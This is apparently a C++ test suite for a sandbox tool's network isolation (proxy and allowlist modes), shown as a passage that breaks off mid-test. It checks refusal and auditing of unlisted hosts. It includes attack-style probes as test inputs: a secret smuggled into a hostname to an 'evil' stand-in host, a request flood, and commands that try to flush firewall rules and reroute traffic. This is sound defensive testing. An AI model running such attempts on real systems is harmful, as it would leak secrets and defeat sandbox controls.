// The network modes through the real CLI, in this binary's own network
// namespace (helpers/private_network_env.cc), which plays the host and the
// internet: servers on 169.254.10.0/24 and fd00:10::/64 addresses of its
// own lo, names from a hosts file of the test's choosing.
//
// As root: allowlist (a veth to this namespace, nftables in the sandbox's),
// all (the veth with NAT), proxy. As an ordinary user: proxy, and the
// honest refusal of what needs root.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <thread>

#include "helpers/cli_fixture.h"
#include "helpers/cli_runner.h"
#include "helpers/local_server.h"
#include "helpers/private_network.h"
#include "helpers/test_support.h"

namespace pulsebox {
namespace {

using nlohmann::json;
namespace fs = std::filesystem;
using namespace std::chrono_literals;

constexpr const char* kApi = "169.254.10.1";
constexpr const char* kEvil = "169.254.10.2";
constexpr const char* kIndex = "169.254.10.3";
constexpr const char* kApi6 = "fd00:10::1";

// A TCP server answering every connection with one HTTP response naming
// itself (and, for a request line, echoing it), on its own thread.
class TcpServer {
 public:
  TcpServer(const std::string& address, std::string name) : name_(std::move(name)) {
    const bool v6 = address.find(':') != std::string::npos;
    fd_ = ::socket(v6 ? AF_INET6 : AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_storage storage{};
    socklen_t length = 0;
    if (v6) {
      auto* a = reinterpret_cast<sockaddr_in6*>(&storage);
      a->sin6_family = AF_INET6;
      ::inet_pton(AF_INET6, address.c_str(), &a->sin6_addr);
      length = sizeof *a;
    } else {
      auto* a = reinterpret_cast<sockaddr_in*>(&storage);
      a->sin_family = AF_INET;
      ::inet_pton(AF_INET, address.c_str(), &a->sin_addr);
      length = sizeof *a;
    }
    if (::bind(fd_, reinterpret_cast<sockaddr*>(&storage), length) != 0 || ::listen(fd_, 64) != 0) {
      ADD_FAILURE() << "server on " << address << ": " << std::strerror(errno);
      return;
    }
    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&storage), &length);
    port_ = ntohs(v6 ? reinterpret_cast<sockaddr_in6*>(&storage)->sin6_port
                     : reinterpret_cast<sockaddr_in*>(&storage)->sin_port);
    thread_ = std::thread([this] { serve(); });
  }
  ~TcpServer() {
    stopping_ = true;
    ::shutdown(fd_, SHUT_RDWR);
    if (thread_.joinable()) thread_.join();
    ::close(fd_);
  }
  int port() const { return port_; }
  int connections() const { return connections_; }

 private:
  void serve() {
    for (int served = 0; served < 1000 && !stopping_; ++served) {
      const int client = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
      if (client < 0) return;
      ++connections_;
      timeval timeout{5, 0};
      ::setsockopt(client, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
      char buffer[4096];
      const ssize_t n = ::recv(client, buffer, sizeof buffer, 0);
      std::string request(buffer, n > 0 ? static_cast<std::size_t>(n) : 0);
      const std::string first_line = request.substr(0, request.find("\r\n"));
      const std::string body = "hello from " + name_ + " [" + first_line + "]";
      const std::string response =
          "HTTP/1.0 200 OK\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
      (void)!::send(client, response.data(), response.size(), MSG_NOSIGNAL);
      ::close(client);
    }
  }

  std::string name_;
  int fd_ = -1;
  int port_ = 0;
  std::atomic<bool> stopping_{false};
  std::atomic<int> connections_{0};
  std::thread thread_;
};

// A command's standard output (run in this binary's own namespaces).
std::string output_of(const std::string& command) {
  std::string out;
  FILE* pipe = ::popen(command.c_str(), "r");
  if (pipe == nullptr) return out;
  char buffer[4096];
  for (std::size_t n; (n = std::fread(buffer, 1, sizeof buffer, pipe)) > 0;)
    out.append(buffer, n);
  ::pclose(pipe);
  return out;
}

// What the probes print, one line each: "NAME ok BODY", "NAME refused
// ERRORCLASS" (never a timeout: a refused destination fails at once).
const char* kProbeScript = R"PY(
import socket, sys, urllib.request
def tcp(name, host, port):
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(8)
    try:
        s.connect((host, int(port)))
        s.sendall(b'GET /direct HTTP/1.0\r\n\r\n')
        data = s.recv(4096).decode(errors='replace')
        print(name, 'ok', data.split('\r\n\r\n')[-1])
    except OSError as e:
        print(name, 'refused', type(e).__name__)
def http(name, url):
    try:
        with urllib.request.urlopen(url, timeout=8) as r:
            print(name, 'ok', r.read().decode(errors='replace'))
    except urllib.error.HTTPError as e:
        print(name, 'http', e.code, e.read().decode(errors='replace').strip())
    except OSError as e:
        print(name, 'refused', type(e).__name__)
for spec in sys.argv[1:]:
    kind, name, *rest = spec.split(',')
    if kind == 'tcp': tcp(name, *rest)
    else: http(name, rest[0])
)PY";

class NetworkTest : public testing::CliFixture {
 protected:
  static void SetUpTestSuite() {
    static bool done = false;  // once per process (each suite calls it)
    if (done) return;
    done = true;
    ASSERT_TRUE(testing::in_private_network());
    for (const std::string address : {"169.254.10.1/32", "169.254.10.2/32", "169.254.10.3/32"})
      ASSERT_EQ(testing::ip_command("addr add " + address + " dev lo"), 0);
    ASSERT_EQ(testing::ip_command("addr add fd00:10::1/128 dev lo nodad"), 0);
    // An interface with default routes, as a host has: pasta (an ordinary
    // user's allowlist and all) takes its addresses and routes from it.
    for (const std::string command :
         {"link add pbtest0 type veth peer name pbtest1", "link set pbtest0 up",
          "link set pbtest1 up", "addr add 169.254.20.1/24 dev pbtest0",
          "addr add fd00:20::1/64 dev pbtest0 nodad",
          "route add default via 169.254.20.254 dev pbtest0",
          "-6 route add default via fd00:20::ffff dev pbtest0"}) {
      ASSERT_EQ(testing::ip_command(command), 0) << command;
    }
    // An ordinary user's pasta needs /dev/net/tun, which udev makes 0666 on
    // a standard system; where it is root's only, tools/check provides a
    // node of that device the suite binds over it in its own mount
    // namespace.
    const char* tun = std::getenv("PULSEBOX_TEST_TUN");
    if (::geteuid() != 0 && ::access("/dev/net/tun", R_OK | W_OK) != 0 && tun != nullptr) {
      ASSERT_EQ(::mount(tun, "/dev/net/tun", nullptr, MS_BIND, nullptr), 0) << std::strerror(errno);
    }
    const std::string hosts = std::string("127.0.0.1 localhost\n") + kApi + " api.example.test\n" +
                              kEvil + " evil.example.test\n" + kIndex + " index.example.test\n" +
                              kApi6 + " v6.example.test\n";
    ASSERT_EQ(testing::override_hosts_file(hosts), "");
  }

  void SetUp() override {
    CliFixture::SetUp();
    if (IsSkipped()) return;
    std::ofstream(workspace_.path() / "probe.py") << kProbeScript;
  }

  testing::CliRun run(const std::vector<std::string>& flags, const std::vector<std::string>& probes,
                      const std::vector<std::string>& extra_env = {}) {
    std::vector<std::string> args = {
        "run", "--allow-weaker",          "limits", "--changes", "discard",
        "-w",  workspace_.path().string()};
    args.insert(args.end(), flags.begin(), flags.end());
    args.insert(args.end(), {"--", "python3", "/workspace/probe.py"});
    args.insert(args.end(), probes.begin(), probes.end());
    auto env = cli_env();
    env.insert(env.end(), extra_env.begin(), extra_env.end());
    return testing::run_cli(args, "", env);
  }

  // The "network" records of the workspace's audit log.
  std::vector<json> network_records() {
    std::vector<json> records;
    std::ifstream in(workspace_.path() / ".agent" / "logs" / "audit.jsonl");
    for (std::string line; std::getline(in, line);) {
      auto record = json::parse(line, nullptr, false);
      if (record.is_object() && record.value("action", "") == "network" &&
          record.contains("method")) {
        records.push_back(record);
      }
    }
    return records;
  }

  // `pulsebox run FLAGS -- sleep 30` in the background (its output in the
  // scratch directory's log): the pid of the supervisor, or -1.
  pid_t start_sleeping_run(const std::vector<std::string>& flags) {
    std::vector<std::string> args = {
        binary_,   "run", "--allow-weaker",          "limits", "--changes",
        "discard", "-w",  workspace_.path().string()};
    args.insert(args.end(), flags.begin(), flags.end());
    // "up" comes from the command: its network was made before it started.
    args.insert(args.end(), {"--", "sh", "-c", "echo up; exec sleep 30"});
    return testing::spawn(args, cli_env(), scratch_.path() / "background.log");
  }
  bool sleeping_run_is_up() {
    return testing::poll_until(
        [&] {
          return testing::read_file(scratch_.path() / "background.log").find("up\n") !=
                 std::string::npos;
        },
        10s);
  }

  static std::string url(const std::string& host, int port) {
    return "http://" + host + ":" + std::to_string(port) + "/via-proxy";
  }
  static std::string line_of(const std::string& out, const std::string& name) {
    const auto at = out.find(name + " ");
    return at == std::string::npos ? "" : out.substr(at, out.find('\n', at) - at);
  }
};

TEST_F(NetworkTest, ProxyLetsAllowedNamesThroughAndRefusesOthersAudited) {
  TcpServer api(kApi, "api"), evil(kEvil, "evil");
  const auto result = run({"--net", "proxy", "--allow-domain", "api.example.test", "--allow", kApi},
                          {"http,allowed," + url("api.example.test", api.port()),
                           "http,other," + url("evil.example.test", evil.port())});
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  EXPECT_NE(line_of(result.out, "allowed").find("ok hello from api [GET /via-proxy HTTP/1.1]"),
            std::string::npos)
      << result.out;
  EXPECT_NE(line_of(result.out, "other").find("http 403"), std::string::npos) << result.out;
  EXPECT_EQ(evil.connections(), 0);
  EXPECT_NE(result.err.find("--net proxy (proxy)"), std::string::npos) << result.err;
  EXPECT_NE(result.err.find("network: refused evil.example.test"), std::string::npos) << result.err;

  bool allowed = false, refused = false;
  for (const auto& record : network_records()) {
    if (record["destination"] == "api.example.test" && record["decision"] == "allow") {
      allowed = true;
      EXPECT_EQ(record["port"], api.port());
      EXPECT_GT(record["bytes_up"].get<std::int64_t>(), 0);
      EXPECT_GT(record["bytes_down"].get<std::int64_t>(), 0);
    }
    if (record["destination"] == "evil.example.test" && record["decision"] == "deny")
      refused = true;
  }
  EXPECT_TRUE(allowed && refused) << "both decisions are in the audit log";
}

TEST_F(NetworkTest, ProxyRefusesANameResolvingToAPrivateAddressNotListed) {
  TcpServer api(kApi, "api");
  const auto result = run({"--net", "proxy", "--allow-domain", "*.example.test", "--json"},
                          {"http,guarded," + url("api.example.test", api.port())});
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  EXPECT_NE(result.out.find("guarded http 403"), std::string::npos) << result.out;
  EXPECT_EQ(api.connections(), 0);
  const auto at = result.out.rfind("\n{");
  const auto summary = json::parse(result.out.substr(at == std::string::npos ? 0 : at + 1));
  ASSERT_EQ(summary["network"]["accesses"].size(), 1u) << summary.dump();
  const auto& access = summary["network"]["accesses"][0];
  EXPECT_EQ(access["decision"], "deny");
  EXPECT_NE(access["reason"].get<std::string>().find("link"), std::string::npos) << access;
}

TEST_F(NetworkTest, ProxyIsTheOnlyWayOutWhateverTheCommandDoesWithTheVariables) {
  TcpServer api(kApi, "api");
  const auto result = run({"--net", "proxy", "--allow-domain", "api.example.test", "--allow", kApi},
                          {"tcp,direct," + std::string(kApi) + "," + std::to_string(api.port()),
                           "tcp,direct6," + std::string(kApi6) + "," + std::to_string(api.port())},
                          {});
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  EXPECT_NE(result.out.find("direct refused"), std::string::npos) << result.out;
  EXPECT_NE(result.out.find("direct6 refused"), std::string::npos) << result.out;
  EXPECT_EQ(result.out.find("TimeoutError"), std::string::npos) << "refused at once";
  EXPECT_EQ(api.connections(), 0);
}

TEST_F(NetworkTest, ProxyTunnelsConnectAndReachesIpv6) {
  TcpServer api6(kApi6, "api6");
  // A CONNECT tunnel by hand: the proxy relays bytes both ways.
  const std::string script =
      "import socket,os\n"
      "s=socket.create_connection(('127.0.0.1',3128),timeout=8)\n"
      "s.sendall(b'CONNECT v6.example.test:" +
      std::to_string(api6.port()) +
      " HTTP/1.1\\r\\nHost: v6.example.test\\r\\n\\r\\n')\n"
      "head=b''\n"
      "while b'\\r\\n\\r\\n' not in head: head+=s.recv(1)\n"
      "print('status', head.split(b' ')[1].decode())\n"
      "s.sendall(b'PING /tunnel HTTP/1.0\\r\\n\\r\\n')\n"
      "print('body', s.recv(4096).decode().split('\\r\\n\\r\\n')[-1])\n";
  std::ofstream(workspace_.path() / "tunnel.py") << script;
  const auto result = testing::run_cli(
      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w", workspace_.path().string(),
       "--net", "proxy", "--allow-domain", "v6.example.test", "--allow", kApi6, "--", "python3",
       "/workspace/tunnel.py"},
      "", cli_env());
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  EXPECT_NE(result.out.find("status 200"), std::string::npos) << result.out;
  EXPECT_NE(result.out.find("body hello from api6 [PING /tunnel HTTP/1.0]"), std::string::npos)
      << result.out;
}

// pip installs a wheel from the test's own package index through the proxy.
TEST_F(NetworkTest, PipInstallsFromAnIndexThroughTheProxy) {
  testing::TempDir index;
  const fs::path simple = index.path() / "simple" / "pbdemo";
  fs::create_directories(simple);
  // A minimal wheel, made with the standard library.
  const std::string make_wheel =
      "import zipfile,sys,hashlib,base64\n"
      "name='pbdemo-1.0-py3-none-any.whl'\n"
      "files={'pbdemo/__init__.py':'VALUE=42\\n',"
      "'pbdemo-1.0.dist-info/METADATA':'Metadata-Version: 2.1\\nName: pbdemo\\nVersion: 1.0\\n',"
      "'pbdemo-1.0.dist-info/WHEEL':'Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: "
      "true\\nTag: py3-none-any\\n'}\n"
      "record=''\n"
      "with zipfile.ZipFile(sys.argv[1]+'/'+name,'w') as z:\n"
      "  for p,t in files.items():\n"
      "    z.writestr(p,t); d=base64.urlsafe_b64encode(hashlib.sha256(t.encode()).digest())"
      ".rstrip(b'=').decode(); record+=f'{p},sha256={d},{len(t)}\\n'\n"
      "  z.writestr('pbdemo-1.0.dist-info/RECORD',record+'pbdemo-1.0.dist-info/RECORD,,\\n')\n"
      "open(sys.argv[1]+'/index.html','w').write(f'<a href=\"{name}\">{name}</a>')\n";
  testing::write_file(index.path() / "make_wheel.py", make_wheel);
  output_of("python3 " + (index.path() / "make_wheel.py").string() + " " + simple.string());
  ASSERT_TRUE(fs::exists(simple / "index.html"));
  // The index: python's http.server, started here, stopped by its pid.
  const pid_t server = ::fork();
  if (server == 0) {
    ::execlp("python3", "python3", "-m", "http.server", "--bind", kIndex, "--directory",
             index.path().c_str(), "18080", nullptr);
    ::_exit(127);
  }
  ASSERT_GT(server, 0);
  struct Stop {
    pid_t pid;
    ~Stop() {
      ::kill(pid, SIGKILL);
      ::waitpid(pid, nullptr, 0);
    }
  } stop{server};
  testing::poll_until(  // until it listens
      [] {
        const int probe = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        sockaddr_in address{};
        address.sin_family = AF_INET;
        address.sin_port = htons(18080);
        ::inet_pton(AF_INET, kIndex, &address.sin_addr);
        const bool up =
            ::connect(probe, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0;
        ::close(probe);
        return up;
      },
      10s);
  const auto result = testing::run_cli(
      {"run",
       "--allow-weaker",
       "limits",
       "--timeout",
       "120",
       "--memory",
       "1G",
       "--changes",
       "discard",
       "-w",
       workspace_.path().string(),
       "--net",
       "proxy",
       "--allow-domain",
       "index.example.test",
       "--allow",
       kIndex,
       "--",
       "sh",
       "-c",
       "PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install --no-cache-dir --disable-pip-version-"
       "check --target /tmp/t --trusted-host index.example.test --index-url "
       "http://index.example.test:18080/simple pbdemo && "
       "PYTHONPATH=/tmp/t python3 -c 'import pbdemo; print(\"imported\", pbdemo.VALUE)'"},
      "", cli_env());
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  EXPECT_NE(result.out.find("imported 42"), std::string::npos) << result.out;
}

// A host name that carries a registered secret out is not a channel: the
// audit log and the result hold it redacted.
TEST_F(NetworkTest, ProxyRecordsHoldNoSecret) {
  const std::string secret = "s3cretlabel4711";
  // The command line names the variable only: the value is the sandbox's.
  auto env = cli_env();
  env.push_back("PB_NET_TOKEN=" + secret);
  const auto result = testing::run_cli(
      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w", workspace_.path().string(),
       "--net", "proxy", "--allow-domain", "api.example.test", "--secret", "PB_NET_TOKEN", "--json",
       "--", "sh", "-c",
       "python3 /workspace/probe.py \"http,leak,http://${PB_NET_TOKEN}.example.test:9/\""},
      "", env);
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  EXPECT_NE(result.out.find("leak http 403"), std::string::npos) << result.out;
  EXPECT_EQ(result.out.find(secret), std::string::npos) << result.out;
  EXPECT_EQ(result.err.find(secret), std::string::npos) << result.err;
  const std::string log = testing::read_file(workspace_.path() / ".agent" / "logs" / "audit.jsonl");
  EXPECT_EQ(log.find(secret), std::string::npos);
  bool recorded = false;
  for (const auto& record : network_records())
    recorded = recorded || record["decision"] == "deny";
  EXPECT_TRUE(recorded) << "the refusal is recorded, redacted";
}

// A command that opens connection after connection to the proxy must not
// grow the supervisor's memory and the audit log without bound: past a
// limit the decisions are counted in one record, not recorded one by one.
TEST_F(NetworkTest, AFloodOfProxyRequestsLeavesABoundedAuditThatCountsThem) {
  constexpr int kRequests = 1500;
  std::ofstream(workspace_.path() / "flood.py") << R"PY(
import socket, sys
refused = 0
for _ in range(int(sys.argv[1])):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=8)
    s.sendall(b'GET http://evil.example.test/ HTTP/1.1\r\n\r\n')
    refused += s.recv(64).startswith(b'HTTP/1.1 403')
    s.close()
print('refused', refused)
)PY";
  const auto result = testing::run_cli(
      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w", workspace_.path().string(),
       "--net", "proxy", "--allow-domain", "api.example.test", "--", "python3",
       "/workspace/flood.py", std::to_string(kRequests)},
      "", cli_env());
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err.substr(0, 2000);
  EXPECT_NE(result.out.find("refused " + std::to_string(kRequests)), std::string::npos)
      << result.out;
  const auto records = network_records();
  EXPECT_LE(records.size(), 1001u);
  ASSERT_FALSE(records.empty());
  const std::string summary = records.back().value("detail", "");
  EXPECT_NE(summary.find("500 more"), std::string::npos) << records.back().dump();
  EXPECT_LT(result.err.size(), 200u * 1024) << "the summary on stderr is bounded too";
}

// Through `pulsebox serve --local`: the server's sandbox started ahead has
// the proxy's listener, and the server runs the proxy.
TEST_F(NetworkTest, ProxyWorksThroughTheServer) {
  TcpServer api(kApi, "api");
  testing::LocalServer server;
  auto env = cli_env(/*served=*/true);
  ASSERT_EQ(server.start(binary_, env, state_.path() / "server.sock", scratch_.path() / "log"), "");
  const std::vector<std::string> flags = {"--net",   "proxy", "--allow-domain", "api.example.test",
                                          "--allow", kApi};
  for (int round = 0; round < 2; ++round) {  // the second from a sandbox started ahead
    std::vector<std::string> args = {
        "run", "--allow-weaker",          "limits", "--changes", "discard",
        "-w",  workspace_.path().string()};
    args.insert(args.end(), flags.begin(), flags.end());
    args.insert(args.end(), {"--", "python3", "/workspace/probe.py",
                             "http,served," + url("api.example.test", api.port())});
    const auto result = testing::run_cli(args, "", env);
    ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
    EXPECT_NE(result.out.find("served ok hello from api"), std::string::npos) << result.out;
  }
  const std::string log = testing::read_file(scratch_.path() / "log");
  EXPECT_NE(log.find("pulsebox serve: run in"), std::string::npos) << "served: " << log;
}

// Without root and without pasta, an allowlist is refused with what it
// needs, never run with less.
TEST_F(NetworkTest, AnAllowlistThisHostCannotMakeIsRefusedWithWhatItNeeds) {
  if (::geteuid() == 0) GTEST_SKIP() << "as root the allowlist is a veth pair (tests below)";
  auto env = cli_env();
  const auto caps = testing::run_cli({"capabilities"}, "", env);
  EXPECT_NE(caps.out.find("network.allowlist"), std::string::npos) << caps.out;
  // /dev/net/tun unusable for pulsebox: a private mount namespace of a child.
  TcpServer api(kApi, "api");
  const pid_t child = ::fork();
  if (child == 0) {
    const std::string unusable = (scratch_.path() / "no-tun").string();
    testing::write_file(unusable, "");
    ::chmod(unusable.c_str(), 0);
    if (::unshare(CLONE_NEWNS) != 0 ||
        ::mount(unusable.c_str(), "/dev/net/tun", nullptr, MS_BIND, nullptr) != 0) {
      ::_exit(90);
    }
    const auto refused =
        run({"--net", "allowlist", "--allow", std::string(kApi) + ":" + std::to_string(api.port())},
            {"tcp,allowed," + std::string(kApi) + "," + std::to_string(api.port())});
    const bool says = refused.err.find("/dev/net/tun") != std::string::npos;
    ::_exit(refused.exit_code != 0 && says ? 0 : 91);
  }
  int status = 0;
  ::waitpid(child, &status, 0);
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << "status " << status;
  EXPECT_EQ(api.connections(), 0);
}

// A sandbox connected to the host: as root a veth pair, as an ordinary user
// pasta (with a usable /dev/net/tun).
class ConnectedNetworkTest : public NetworkTest {
 protected:
  void SetUp() override {
    const bool pasta = ::access("/usr/bin/pasta", X_OK) == 0;
    const bool tun = ::access("/dev/net/tun", R_OK | W_OK) == 0;
    PULSEBOX_SKIP_UNLESS(::geteuid() == 0 || (pasta && tun),
                         "an ordinary user's connected sandbox needs pasta (apt-get install "
                         "passt) and a usable /dev/net/tun");
    NetworkTest::SetUp();
  }
  static std::string setup() { return ::geteuid() == 0 ? "veth" : "pasta"; }
  static std::string links() { return output_of("ip -o link show"); }
  static std::string tables() { return output_of("nft list tables"); }
};

class RootNetworkTest : public NetworkTest {
 protected:
  void SetUp() override {
    PULSEBOX_SKIP_UNLESS_ROOT("a veth pair to the host needs CAP_NET_ADMIN in its namespace");
    NetworkTest::SetUp();
  }
  static std::string links() { return output_of("ip -o link show"); }
  static std::string tables() { return output_of("nft list tables"); }
};

TEST_F(ConnectedNetworkTest, AllowlistPassesOnlyTheListedDestinationsPortsAndProtocols) {
  TcpServer api(kApi, "api"), other_port(kApi, "other-port"), evil(kEvil, "evil"),
      api6(kApi6, "api6");
  const auto result = run(
      {"--net", "allowlist", "--allow", "api.example.test:" + std::to_string(api.port()), "--allow",
       kApi, "--allow", "[" + std::string(kApi6) + "]:" + std::to_string(api6.port()) + "/tcp"},
      {"tcp,allowed,api.example.test," + std::to_string(api.port()),
       "tcp,otherport," + std::string(kApi) + "," + std::to_string(other_port.port()),
       "tcp,otherhost," + std::string(kEvil) + "," + std::to_string(evil.port()),
       "tcp,v6," + std::string(kApi6) + "," + std::to_string(api6.port())});
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  EXPECT_NE(line_of(result.out, "allowed").find("ok hello from api"), std::string::npos)
      << result.out;
  // kApi is listed without a port: every port of it passes.
  EXPECT_NE(line_of(result.out, "otherport").find("ok hello from other-port"), std::string::npos)
      << result.out;
  EXPECT_EQ(line_of(result.out, "otherhost"), "otherhost refused ConnectionRefusedError")
      << result.out;
  EXPECT_NE(line_of(result.out, "v6").find("ok hello from api6"), std::string::npos) << result.out;
  EXPECT_EQ(evil.connections(), 0);
  EXPECT_NE(result.err.find("--net allowlist (" + setup() + ")"), std::string::npos) << result.err;
}

// The host side of the veth is the sandbox's next hop: its IPv4 gateway,
// its link-local fe80::1 and its ULA address must be refused like any other
// unlisted destination, or the host's services bound to any address are in
// reach.
TEST_F(RootNetworkTest, AllowlistRefusesTheHostSideOfTheVethOnEveryAddress) {
  TcpServer api(kApi, "api"), host("::", "host");
  std::ofstream(workspace_.path() / "gateways.py") << R"PY(
import socket, struct, sys
port = int(sys.argv[1])
def probe(name, family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(8)
    try:
        s.connect(address)
        print(name, 'ok')
    except OSError as e:
        print(name, 'refused', type(e).__name__)
for line in open('/proc/net/route').read().splitlines()[1:]:
    fields = line.split()
    if fields[1] == '00000000':
        gateway = socket.inet_ntoa(struct.pack('<I', int(fields[2], 16)))
        probe('gateway4', socket.AF_INET, (gateway, port))
for line in open('/proc/net/if_inet6').read().splitlines():
    hexaddr, _, _, scope, _, name = line.split()
    if name != 'lo' and scope == '00':
        packed = bytes.fromhex(hexaddr)[:15] + b'\x01'
        probe('ula', socket.AF_INET6, (socket.inet_ntop(socket.AF_INET6, packed), port))
for index, name in socket.if_nameindex():
    if name != 'lo':
        probe('linklocal', socket.AF_INET6, ('fe80::1', port, 0, index))
)PY";
  const auto result = testing::run_cli(
      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w", workspace_.path().string(),
       "--net", "allowlist", "--allow", std::string(kApi) + ":" + std::to_string(api.port()), "--",
       "python3", "/workspace/gateways.py", std::to_string(host.port())},
      "", cli_env());
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  for (const char* name : {"gateway4", "ula", "linklocal"})
    EXPECT_NE(line_of(result.out, name).find(" refused "), std::string::npos) << result.out;
  EXPECT_EQ(result.out.find("TimeoutError"), std::string::npos) << "refused at once";
  EXPECT_EQ(host.connections(), 0);
}

TEST_F(ConnectedNetworkTest, AllowlistRefusesTheSameHostOnAnotherPortAndUdpByTheRules) {
  TcpServer api(kApi, "api"), other(kApi, "other");
  const auto result =
      run({"--net", "allowlist", "--allow", std::string(kApi) + ":" + std::to_string(api.port())},
          {"tcp,allowed," + std::string(kApi) + "," + std::to_string(api.port()),
           "tcp,otherport," + std::string(kApi) + "," + std::to_string(other.port())});
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  EXPECT_NE(line_of(result.out, "allowed").find("ok"), std::string::npos) << result.out;
  EXPECT_EQ(line_of(result.out, "otherport"), "otherport refused ConnectionRefusedError")
      << result.out;
  EXPECT_EQ(other.connections(), 0);

  // UDP: an echo on the host side; the listed port answers, another is
  // refused at once (ICMP), TCP to the UDP-only port is refused.
  const std::string udp_script =
      "import socket,sys\n"
      "for port in sys.argv[1:]:\n"
      "  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(5)\n"
      "  try:\n"
      "    s.connect(('" +
      std::string(kApi) +
      "',int(port))); s.send(b'ping'); print(port, 'ok', s.recv(100).decode())\n"
      "  except OSError as e: print(port, 'refused', type(e).__name__)\n";
  std::ofstream(workspace_.path() / "udp.py") << udp_script;
  const int echo = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  ::inet_pton(AF_INET, kApi, &address.sin_addr);
  ASSERT_EQ(::bind(echo, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
  socklen_t length = sizeof address;
  ::getsockname(echo, reinterpret_cast<sockaddr*>(&address), &length);
  const int udp_port = ntohs(address.sin_port);
  std::thread echoer([echo] {
    timeval timeout{20, 0};
    ::setsockopt(echo, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
    char buffer[100];
    sockaddr_storage from{};
    socklen_t from_length = sizeof from;
    const ssize_t n = ::recvfrom(echo, buffer, sizeof buffer, 0, reinterpret_cast<sockaddr*>(&from),
                                 &from_length);
    if (n > 0) ::sendto(echo, "pong", 4, 0, reinterpret_cast<sockaddr*>(&from), from_length);
  });
  const auto udp = testing::run_cli(
      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w", workspace_.path().string(),
       "--net", "allowlist", "--allow", std::string(kApi) + ":" + std::to_string(udp_port) + "/udp",
       "--", "python3", "/workspace/udp.py", std::to_string(udp_port),
       std::to_string(udp_port + 1)},
      "", cli_env());
  echoer.join();
  ::close(echo);
  ASSERT_EQ(udp.exit_code, 0) << udp.out << udp.err;
  EXPECT_NE(udp.out.find(std::to_string(udp_port) + " ok pong"), std::string::npos) << udp.out;
  // Refused at once by the filter (admin-prohibited: EPERM at send).
  EXPECT_NE(udp.out.find(std::to_string(udp_port + 1) + " refused PermissionError"),
            std::string::npos)
      << udp.out;
}

TEST_F(ConnectedNetworkTest, AllowlistRefusesANameThatResolvesToAPrivateAddressUnlessListed) {
  TcpServer api(kApi, "api");
  const auto refused =
      run({"--net", "allowlist", "--allow", "api.example.test:" + std::to_string(api.port())},
          {"tcp,allowed,api.example.test," + std::to_string(api.port())});
  EXPECT_NE(refused.exit_code, 0) << refused.out;
  EXPECT_NE(refused.err.find("api.example.test"), std::string::npos) << refused.err;
  EXPECT_NE(refused.err.find("link"), std::string::npos) << refused.err;
  EXPECT_EQ(api.connections(), 0);
  // Listed, the address passes the guard and the name is in /etc/hosts.
  const auto listed = run({"--net", "allowlist", "--allow",
                           "api.example.test:" + std::to_string(api.port()), "--allow", kApi},
                          {"tcp,allowed,api.example.test," + std::to_string(api.port())});
  EXPECT_EQ(listed.exit_code, 0) << listed.out << listed.err;
  EXPECT_NE(listed.out.find("allowed ok"), std::string::npos) << listed.out;
}

TEST_F(ConnectedNetworkTest, TheCommandCannotChangeRoutesAddressesOrRules) {
  TcpServer evil(kEvil, "evil");
  const auto result = testing::run_cli(
      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w", workspace_.path().string(),
       "--net", "allowlist", "--allow", kApi, "--", "sh", "-c",
       "ip addr add 169.254.10.9/32 dev eth0; echo addr=$?; "
       "ip route add 169.254.10.2/32 dev eth0; echo route=$?; "
       "nft flush ruleset; echo nft=$?; "
       "unshare -rn sh -c 'nft flush ruleset' ; echo nested=$?; "
       "python3 /workspace/probe.py tcp,evil," +
           std::string(kEvil) + "," + std::to_string(evil.port())},
      "", cli_env());
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  for (const char* what : {"addr=0", "route=0", "nft=0"})
    EXPECT_EQ(result.out.find(what), std::string::npos) << what << "\n" << result.out;
  EXPECT_NE(result.out.find("evil refused"), std::string::npos) << result.out;
  EXPECT_EQ(evil.connections(), 0);
}

TEST_F(RootNetworkTest, NothingIsLeftAfterARunAKilledSupervisorAndReconcile) {
  ASSERT_EQ(std::system("sysctl -q -w net.ipv4.ip_forward=1"), 0);  // this namespace's own
  struct Restore {
    ~Restore() { (void)std::system("sysctl -q -w net.ipv4.ip_forward=0"); }
  } restore;
  TcpServer api(kApi, "api");
  // --net all through the veth with NAT: the run leaves nothing behind.
  const auto result =
